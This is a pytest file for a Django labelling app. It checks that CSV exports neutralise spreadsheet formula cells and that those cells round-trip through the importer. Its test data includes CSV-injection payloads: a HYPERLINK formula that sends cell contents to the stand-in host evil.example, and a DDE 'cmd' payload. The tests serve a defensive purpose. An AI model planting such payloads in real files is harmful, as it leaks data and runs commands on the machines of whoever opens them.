"""CSV exports neutralise formula cells (OWASP "CSV injection"): a text cell that starts with
=, +, -, @, a tab or a carriage return is written with a leading apostrophe, and our CSV reader
takes it off again, so an export still round-trips through the importer."""

from __future__ import annotations

import csv
import io

import pytest

from apps.datasets.rows import csv_cell_in, csv_cell_out
from apps.intake.services import dataset_file_import
from apps.labeling.models import HumanLabel
from tests.labeling.helpers import label_one, make_session, url

pytestmark = pytest.mark.django_db
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_is_neutralised_and_read_back(text):
    assert csv_cell_out(text) == "'" + text
    assert csv_cell_in(csv_cell_out(text)) == text


@pytest.mark.parametrize("text", ["plain", "", "'quoted already", "1+1", "a=b", "'", "{}"])
def test_other_cells_are_left_alone(text):
    assert csv_cell_out(text) == text
    assert csv_cell_in(text) == text


def test_a_session_csv_export_neutralises_hostile_items_and_round_trips(personas):
    session = make_session(personas.project, assignees=[personas.labeller], items=len(HOSTILE))
    items = list(session.dataset.items.order_by("position"))
    for n, (item, text) in enumerate(zip(items, HOSTILE, strict=True)):
        item.prompt, item.response, item.external_id = text, text, f"{text}-{n}"
        item.save()
    for _ in HOSTILE:
        label_one(session, personas.labeller, {"correct": 2, "safe": 1})
    response = personas.client("owner").get(url("session_export", session) + "?format=csv")
    data = b"".join(response.streaming_content)
    cells = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    assert len(cells) == len(HOSTILE)
    for row in cells:
        for column in ("id", "prompt", "response"):
            assert row[column].startswith("'"), (column, row[column])
    result = dataset_file_import(project=personas.project, dataset_name="back",
                                 stream=io.BytesIO(data), fmt="csv",
                                 rubric_version=session.rubric_version)
    assert result.ok, [str(p) for p in result.problems]
    back = sorted((i.prompt, i.response) for i in result.dataset.items.all())
    assert back == sorted((t, t) for t in HOSTILE)
    assert HumanLabel.objects.filter(item__dataset=result.dataset).count() == 2 * len(HOSTILE)
